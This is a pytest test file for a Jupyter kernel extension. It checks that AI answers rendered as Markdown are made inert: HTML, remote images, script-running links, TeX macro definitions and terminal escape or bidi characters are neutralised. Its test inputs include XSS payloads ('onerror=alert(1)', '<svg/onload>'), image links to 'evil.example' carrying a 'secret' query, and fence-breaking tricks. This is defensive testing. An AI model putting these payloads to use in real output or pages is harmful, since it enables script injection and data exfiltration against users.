"""What leaves the kernel as text/markdown is inert in every front end."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path

import pytest
from cellar_jupyter.kernel.display import ANSWER_MIME, Answer, answer_to_bundle, draws_cards
from cellar_jupyter.kernel.formats import extract_code, extract_json
from cellar_jupyter.kernel.options import Format
from cellar_jupyter.kernel.published import to_published

HARMLESS = """\
# A title

Text with `code`, **bold**, a < b, [a link](https://example.org) and [another](docs/a.md#part).

```python
for i in range(3):
    print(i < 2)
```

| a | b |
|---|---|
| 1 | `x` |

$$ a < b $$
"""


def test_an_ordinary_answer_stays_as_the_model_wrote_it() -> None:
    assert to_published(HARMLESS) == HARMLESS


@pytest.mark.parametrize(
    "markdown",
    [
        "<script>alert(1)</script>",
        "text <img src=x onerror=alert(1)>",
        "`ok` <iframe src=//evil></iframe>",
        "```\n<script>alert(1)</script>\n```",
        "```html\n<script>alert(1)</script>",
        "~~~\n```\n<b>\n~~~\n<script>x</script>",
        "| a |\n|---|\n| `x | <img src=x onerror=alert(1)> ` |",
        "$ ``` $\n```\n<script>alert(1)</script>\n```\n",
        "<!-- comment --> <svg/onload=alert(1)>",
        r"\`<script>alert(1)</script>`",
        "``a ` <script>b</script>``",
        "<button data-commandlinker-command='x'>go</button>",
    ],
)
def test_no_tag_survives(markdown: str) -> None:
    published = to_published(markdown)
    left = (
        published.replace("<pre><code>", "").replace("</code></pre>", "").replace("<code>", "").replace("</code>", "")
    )
    assert "<" not in left


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][ref]\n\n[ref]: https://evil.example/a.png",
        "[![x](https://evil.example/a.png)](https://evil.example)",
    ],
)
def test_no_picture_is_fetched(markdown: str) -> None:
    assert "![" not in to_published(markdown)


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "&#106;avascript:alert(1)"],
)
def test_a_link_that_runs_something_is_no_link(address: str) -> None:
    assert f"]({address}" not in to_published(f"[x]({address})")
    assert f"[x]: {address}" not in to_published(f"[x][x]\n\n[x]: {address}")


@pytest.mark.parametrize(
    "live", ["![x](http://evil.example/p.png)", "[c](javascript:alert(1))", "[c]: javascript:alert(1)"]
)
@pytest.mark.parametrize(
    "before",
    [
        *(f"a{end}```\n" for end in ("\u2028", "\u2029", "\x0b", "\x0c", "\x1c", "\x85", "\r")),
        "- a\n\n  ```\n",  # the item ends, and with it its fence
        "> ```\n",
        "1. a\n\n   ~~~\n   b\n",
        "`a\n```\n",
        "```\nb\r```\r",
        "> ",
        "- ",
    ],
)
def test_nothing_is_live_that_only_we_read_as_code(before: str, live: str) -> None:
    published = to_published(f"{before}{live}\n")
    assert "![" not in published
    assert "](javascript" not in published and "]: javascript" not in published


@pytest.mark.parametrize(
    "markdown",
    [
        r"$\def\alpha{x}$",
        r"so \(\renewcommand{\frac}{x}\)",
        r"\$\\def\\alpha{x}\$",
        r"$&#92;def\alpha{x}$",
        r"&#36;\d&#101;f\alpha{x}&dollar;",
        r"\begin{align}\DeclareMathOperator{\sin}{x}\end{align}",
        "```\n$\\let\\alpha\\beta$\n```",
    ],
)
def test_no_formula_defines_a_command(markdown: str) -> None:
    published = to_published(markdown)
    left = re.sub(r"<pre><code>.*?</code></pre>", "", published, flags=re.DOTALL)
    assert not re.search(r"\\(def|let|renewcommand|Declare)", html.unescape(left))


TEX = json.loads((Path(__file__).parents[1] / "contract" / "tex.json").read_text("utf-8"))
"""The panel's tests read the same file."""


@pytest.mark.parametrize("tex", TEX["defines"])
def test_tex_that_defines_something_is_not_published(tex: str) -> None:
    assert to_published(f"$${tex}$$") != f"$${tex}$$"


@pytest.mark.parametrize("tex", TEX["harmless"])
def test_tex_that_defines_nothing_is_published_as_it_is(tex: str) -> None:
    assert to_published(f"$${tex}$$") == f"$${tex}$$"


@pytest.mark.parametrize(
    "text", [r"It lies in C:\newcommand\let.", r"For $5 open C:\data\new", r"$\delta \leq 1 \newline x$"]
)
def test_what_only_resembles_a_definition_stays_as_it_is(text: str) -> None:
    assert to_published(text) == text


def test_code_that_indexes_and_annotates_stays_as_it_is() -> None:
    for code in ("x[0](y)", "def f(a: list[int]) -> None: ...", "d = {a[0]: 1}", "if a[1:]:\n    b", "!ls"):
        assert to_published(f"```python\n{code}\n```\n") == f"```python\n{code}\n```\n"


def test_code_with_tags_can_still_be_read() -> None:
    import html

    published = to_published('```html\n<p class="a">1 & 2</p>\n```')
    assert html.unescape(published) == '<pre><code><p class="a">1 & 2</p></code></pre>\n'


def test_the_bundle_has_one_text_for_each_reader() -> None:
    bundle = answer_to_bundle(Answer("**hi**", "m", "markdown", "complete"), "id")
    assert bundle["text/markdown"] == "**hi**" and bundle["text/plain"] == "**hi**"
    assert "text" not in bundle[ANSWER_MIME]  # the card reads the Markdown beside it


def test_the_card_keeps_the_original_where_the_markdown_was_made_inert() -> None:
    bundle = answer_to_bundle(Answer("see <b>this</b>", "m", "markdown", "complete"), "id")
    assert bundle[ANSWER_MIME]["text"] == "see <b>this</b>"
    assert bundle["text/markdown"] == "see &lt;b>this&lt;/b>"


def test_html_is_shown_as_source_and_never_as_a_page() -> None:
    bundle = answer_to_bundle(Answer("<h1>Hi</h1>", "m", "html", "complete"), "id")
    assert "text/html" not in bundle
    assert bundle[ANSWER_MIME]["text"] == "```html\n<h1>Hi</h1>\n```"


def test_plain_text_has_no_markdown_beside_it() -> None:
    assert "text/markdown" not in answer_to_bundle(Answer("# no title", "m", "text", "complete"), "id")


@pytest.mark.parametrize("formula", ["x^2", "\\[x^2\\]", "```latex\nx^2\n```", "$$x^2$$"])
def test_a_formula_is_displayed(formula: str) -> None:
    assert "$$" in answer_to_bundle(Answer(formula, "m", "math", "complete"), "id")["text/markdown"]


def test_code_is_taken_out_of_its_fences() -> None:
    assert extract_code("a\n```py\nx = 1\n```\nb\n~~~\ny\n~~~") == "x = 1\n\ny"
    assert extract_code("```py\nunfinished") == "unfinished"
    assert extract_code("x = 1") == "x = 1"


def test_json_is_found_with_and_without_a_fence() -> None:
    assert extract_json(' {"a": 1} ') == {"a": 1}
    assert extract_json("Sure:\n```json\n[1, 2]\n```") == [1, 2]


def test_a_card_is_drawn_only_where_cellar_runs(monkeypatch: pytest.MonkeyPatch, tmp_path: object) -> None:
    monkeypatch.setenv("JUPYTER_RUNTIME_DIR", str(tmp_path))
    assert not draws_cards({})
    assert not draws_cards({"JPY_SESSION_NAME": "a.ipynb"})


@pytest.mark.parametrize("format", ["markdown", "text", "code", "json", "html", "math"])
@pytest.mark.parametrize("text", ["", "\n \n"])
def test_no_text_leaves_nothing_to_draw(text: str, format: Format) -> None:
    assert answer_to_bundle(Answer(text, "m", format, "error", ("masked",)), "id") == {}


@pytest.mark.parametrize("format", ["markdown", "text", "code", "json", "html", "math"])
def test_no_escape_sequence_and_no_bidi_override_stands_in_a_notebook(format: Format) -> None:
    text = "a\x1b[31mb \x1b]0;title\x07 \u202etxt\u2066 \x9b1m\r\nend\r!"
    bundle = json.dumps(answer_to_bundle(Answer(text, "m", format, "complete"), "id"), ensure_ascii=False)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\\u00|\\r", bundle)


@pytest.mark.parametrize("answer", ["NaN", "[1, Infinity]", '{"a": -Infinity}', "[" * 100_000, "", "{"])
def test_what_json_does_not_have_is_no_json(answer: str) -> None:
    with pytest.raises(ValueError, match="no JSON"):
        extract_json(answer)
